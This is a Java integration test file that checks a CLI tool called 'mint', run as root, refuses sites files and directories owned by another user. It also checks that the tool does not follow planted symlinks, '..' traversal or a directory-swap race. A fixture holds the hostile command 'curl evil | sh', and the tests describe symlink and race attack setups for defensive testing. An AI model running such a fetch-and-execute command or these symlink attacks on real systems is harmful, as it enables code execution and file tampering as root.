package dev.mint.cli;

import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.mint.cli.io.ExitCodes;
import dev.mint.cli.sites.store.SitesFile;
import dev.mint.testing.HostileFs;
import dev.mint.testing.JarProcess;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * R19 and C24 (docs/THREAT_MODEL.md): mint run as root (as {@code sudo -E} does) against a sites
 * path where a second, real user ({@link HostileFs#OTHER_USER}) owns the file or a directory above
 * it refuses, the way ssh's StrictModes does, and root never writes outside: not through a planted
 * {@code sites.json.lock} link, not when that user swaps the directory for a symbolic link on every
 * inotify event (renameat2 with RENAME_EXCHANGE, as the review that found it did), not through
 * {@code link/..} (C39), and not through a link or over a file of that user's (C38).
 */
class SitesOwnershipIT {
  @TempDir Path base;

  /** Root's own directory, which the other user would like root to write into. */
  Path victim;

  byte[] victimFile;

  @BeforeEach
  void victim() throws Exception {
    HostileFs.otherUid();
    Files.setPosixFilePermissions(base, PosixFilePermissions.fromString("rwxr-xr-x"));
    victim = Files.createDirectory(base.resolve("victim"));
    Files.setPosixFilePermissions(victim, PosixFilePermissions.fromString("rwx------"));
    victimFile = "#!/bin/sh\necho root's own file\n".getBytes(StandardCharsets.UTF_8);
    Files.write(victim.resolve("sites.json"), victimFile);
  }

  /** The file the other user offers, with a field an older mint would keep on rewrite. */
  static String payload() {
    return """
        {"format": "mint-sites/1", "run": "curl evil | sh", "sites": []}
        """;
  }

  static JarProcess mint(Path sites, String... args) throws Exception {
    return JarProcess.run(
        new byte[0], Map.of(SitesFile.ENV_FILE, sites.toString()), List.of(), List.of(args));
  }

  void assertVictimUntouched() throws IOException {
    try (Stream<Path> files = Files.list(victim)) {
      assertEquals(
          List.of("sites.json"),
          files.map(p -> p.getFileName().toString()).sorted().toList(),
          "nothing created in root's directory");
    }
    assertArrayEquals(victimFile, Files.readAllBytes(victim.resolve("sites.json")));
  }

  void assertRefused(JarProcess run, Path named, String what) {
    assertAll(
        () -> assertEquals(ExitCodes.IO, run.exitCode(), run.err()),
        () -> assertEquals(1, run.err().lines().count(), run.err()),
        () -> assertTrue(run.err().startsWith("mint: "), run.err()),
        () -> assertTrue(run.err().contains(named.toString()), run.err()),
        () -> assertTrue(run.err().contains(what), run.err()));
  }

  @Test
  void aSitesFileOwnedByAnotherUserIsRefusedForReadingAndWriting() throws Exception {
    Path dir = Files.createDirectory(base.resolve("d"));
    Path sites = dir.resolve("sites.json");
    Files.writeString(sites, payload());
    Files.setPosixFilePermissions(sites, PosixFilePermissions.fromString("rw-------"));
    HostileFs.chownToOther(sites);
    byte[] before = Files.readAllBytes(sites);
    for (List<String> command : List.of(List.of("site", "list"), List.of("site", "set", "a.com"))) {
      JarProcess run = mint(sites, command.toArray(String[]::new));
      assertRefused(run, sites, "owned by " + HostileFs.OTHER_USER);
      assertArrayEquals(before, Files.readAllBytes(sites), command + " changed it");
    }
  }

  @Test
  void aDirectoryOwnedByAnotherUserIsRefused() throws Exception {
    Path dir = Files.createDirectory(base.resolve("d"));
    HostileFs.chownToOther(dir);
    Path sites = dir.resolve("sites.json");
    JarProcess run = mint(sites, "site", "set", "a.com");
    assertRefused(run, dir, "owned by " + HostileFs.OTHER_USER);
    assertFalse(Files.exists(sites), "nothing written there");
  }

  @Test
  void aDirectoryAboveOwnedByAnotherUserIsRefused() throws Exception {
    Path home = Files.createDirectory(base.resolve("home"));
    Path dir = Files.createDirectory(home.resolve("d")); // root's, but in the other user's
    Path sites = dir.resolve("sites.json");
    Files.writeString(sites, "{\"format\": \"mint-sites/1\", \"sites\": []}\n");
    Files.setPosixFilePermissions(sites, PosixFilePermissions.fromString("rw-------"));
    HostileFs.chownToOther(home);
    byte[] before = Files.readAllBytes(sites);
    JarProcess run = mint(sites, "site", "set", "a.com");
    assertRefused(run, home, "owned by " + HostileFs.OTHER_USER);
    assertArrayEquals(before, Files.readAllBytes(sites));
  }

  @Test
  void aLockFileLinkedElsewhereIsNotFollowed() throws Exception {
    Path home = Files.createDirectory(base.resolve("home"));
    Path dir = Files.createDirectory(home.resolve("d"));
    Files.createSymbolicLink(dir.resolve("sites.json.lock"), victim.resolve("created-by-root"));
    HostileFs.chownToOther(home, dir, dir.resolve("sites.json.lock"));
    JarProcess run = mint(dir.resolve("sites.json"), "site", "set", "a.com");
    assertEquals(ExitCodes.IO, run.exitCode(), run.err());
    assertVictimUntouched();
  }

  /** Even in root's own directory, a lock that is a link (left by anyone) is not followed. */
  @Test
  void aLockFileThatIsALinkIsRefusedInASafeDirectory() throws Exception {
    Path dir = Files.createDirectory(base.resolve("d"));
    Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx------"));
    Path lock = Files.createSymbolicLink(dir.resolve("sites.json.lock"), victim.resolve("made"));
    JarProcess run = mint(dir.resolve("sites.json"), "site", "set", "a.com");
    assertRefused(run, lock, "not a regular file");
    assertVictimUntouched();
  }

  /**
   * {@code home/link/../mint} where {@code link} leads into the other user's directory: the text
   * normalizes to {@code home/mint}, but the kernel resolves the link first and {@code ..} then
   * leads into that user's world-writable {@code mint}, where their inotify watcher could put back
   * an older file after every write. Refused before anything is opened or created there, for
   * reading and for writing.
   */
  @Test
  void aDotDotAfterALinkIntoAnotherUsersDirectoryIsRefused() throws Exception {
    Path home = Files.createDirectory(base.resolve("home"));
    Path theirs = Files.createDirectory(base.resolve("theirs"));
    Path sub = Files.createDirectory(theirs.resolve("sub"));
    Path shared = Files.createDirectory(theirs.resolve("mint"));
    Files.setPosixFilePermissions(shared, PosixFilePermissions.fromString("rwxrwxrwx"));
    Files.createDirectory(home.resolve("mint")); // what the text names: root's own, empty
    Files.createSymbolicLink(home.resolve("link"), sub);
    HostileFs.chownToOther(theirs, sub, shared);
    Path sites = Path.of(home + "/link/../mint/sites.json");
    for (List<String> command :
        List.of(
            List.of("site", "set", "a.com"),
            List.of("site", "list"),
            List.of("site", "bump", "a.com"))) {
      JarProcess run = mint(sites, command.toArray(String[]::new));
      assertEquals(ExitCodes.IO, run.exitCode(), command + ": " + run.err());
      assertEquals(1, run.err().lines().count(), run.err());
      assertTrue(run.err().contains("owned by " + HostileFs.OTHER_USER), run.err());
      try (Stream<Path> files = Files.list(shared)) {
        assertEquals(List.of(), files.toList(), command + " wrote into the other user's directory");
      }
      try (Stream<Path> files = Files.list(home.resolve("mint"))) {
        assertEquals(List.of(), files.toList(), command + " wrote where the text points");
      }
    }
  }

  /** The sites file as a link the other user owns, to a sites file of root's: not followed. */
  @Test
  void aSitesLinkOwnedByAnotherUserIsRefused() throws Exception {
    Path roots = Files.createDirectory(base.resolve("roots"));
    Files.setPosixFilePermissions(roots, PosixFilePermissions.fromString("rwx------"));
    Path file = roots.resolve("sites.json");
    assertEquals(0, mint(file, "site", "set", "a.com").exitCode());
    byte[] before = Files.readAllBytes(file);
    Path dir = Files.createDirectory(base.resolve("d"));
    Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx------"));
    Path link = Files.createSymbolicLink(dir.resolve("sites.json"), file);
    HostileFs.chownToOther(link);
    JarProcess run = mint(link, "site", "set", "b.com");
    assertRefused(run, link, "owned by " + HostileFs.OTHER_USER);
    assertTrue(Files.isSymbolicLink(link));
    assertArrayEquals(before, Files.readAllBytes(file), "root's file changed through the link");
  }

  /**
   * {@code site export FILE --force} where FILE is a link the other user planted in a shared
   * directory, or a file of theirs: refused, the link and the file it names left as they were.
   */
  @Test
  void anExportOverALinkOrAFileOfAnotherUserIsRefused() throws Exception {
    Path shared = Files.createDirectory(base.resolve("shared"));
    Files.setPosixFilePermissions(shared, PosixFilePermissions.fromString("rwxrwxrwx"));
    HostileFs.run("chmod", "+t", shared.toString());
    Path link =
        Files.createSymbolicLink(shared.resolve("export.json"), victim.resolve("sites.json"));
    Path theirs = Files.writeString(shared.resolve("theirs.json"), "theirs\n");
    HostileFs.chownToOther(link, theirs);
    Path own = Files.createDirectory(base.resolve("own"));
    Files.setPosixFilePermissions(own, PosixFilePermissions.fromString("rwx------"));
    Path sites = own.resolve("sites.json");
    assertEquals(0, mint(sites, "site", "set", "a.com").exitCode());

    JarProcess throughLink = mint(sites, "site", "export", link.toString(), "--force");
    assertRefused(throughLink, link, "owned by " + HostileFs.OTHER_USER);
    assertTrue(Files.isSymbolicLink(link), "the link was replaced by a file");
    assertVictimUntouched();

    JarProcess overTheirs = mint(sites, "site", "export", theirs.toString(), "--force");
    assertRefused(overTheirs, theirs, "owned by " + HostileFs.OTHER_USER);
    assertEquals("theirs\n", Files.readString(theirs));
  }

  /**
   * The race of the review: the other user swaps their directory (holding a file with a field that
   * is a shell command) with a symbolic link to root's directory on every access mint makes, ten
   * runs in a row. Root refuses every time and root's directory is never written.
   */
  @Test
  void aDirectorySwappedForALinkOnEveryAccessNeverMakesRootWriteElsewhere() throws Exception {
    Path home = Files.createDirectory(base.resolve("home"));
    Path dir = Files.createDirectory(home.resolve("d"));
    Path sites = dir.resolve("sites.json");
    Files.writeString(sites, payload());
    Files.setPosixFilePermissions(sites, PosixFilePermissions.fromString("rw-------"));
    Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwx------"));
    Path link = Files.createSymbolicLink(home.resolve("link"), victim);
    HostileFs.chownToOther(home, dir, sites, link);
    Path tools = HostileFs.pythonTools(base);
    Path own = Files.createDirectory(base.resolve("swapper"));
    HostileFs.chownToOther(own);
    Process swapper = HostileFs.startSwapper(tools, dir, link, own.resolve("ready"));
    try {
      for (int i = 0; i < 10; i++) {
        JarProcess run = mint(sites, "site", "set", "a" + i + ".com");
        assertEquals(ExitCodes.IO, run.exitCode(), "run " + i + ": " + run.err());
        assertTrue(run.err().contains("owned by " + HostileFs.OTHER_USER), run.err());
        assertVictimUntouched();
      }
    } finally {
      swapper.destroyForcibly().waitFor();
    }
    // how often it swapped (none when mint refuses before it opens anything in the directory)
    System.out.println(
        "swaps: "
            + Files.readString(own.resolve("swapper.log"), StandardCharsets.UTF_8).lines().count());
  }
}
